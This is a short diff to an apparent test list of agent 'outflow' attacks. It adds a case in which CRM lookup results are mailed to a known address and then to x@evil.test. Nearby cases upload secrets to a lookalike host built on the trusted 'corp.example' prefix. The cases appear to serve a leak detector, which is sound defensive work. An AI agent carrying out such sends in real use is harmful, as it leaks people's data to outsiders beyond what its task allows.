@@ -58,6 +58,12 @@ export const byOutflow: Attack[] = [
     person,
     sends(['all@corp.example', 'x@evil.test'], from('1.crm.find')),
   ]),
+  leak(
+    'a new receiver after a known one, by the same tool',
+    'mail.send',
+    [person, sends('desk@corp.example', from('1.crm.find')), sends('x@evil.test', from('1.crm.find'))],
+    { meant: 1 },
+  ),
   leak('a known host as the beginning of another', 'report.upload', [
     secret,
     uploads('https://files.corp.example.evil.test/'),
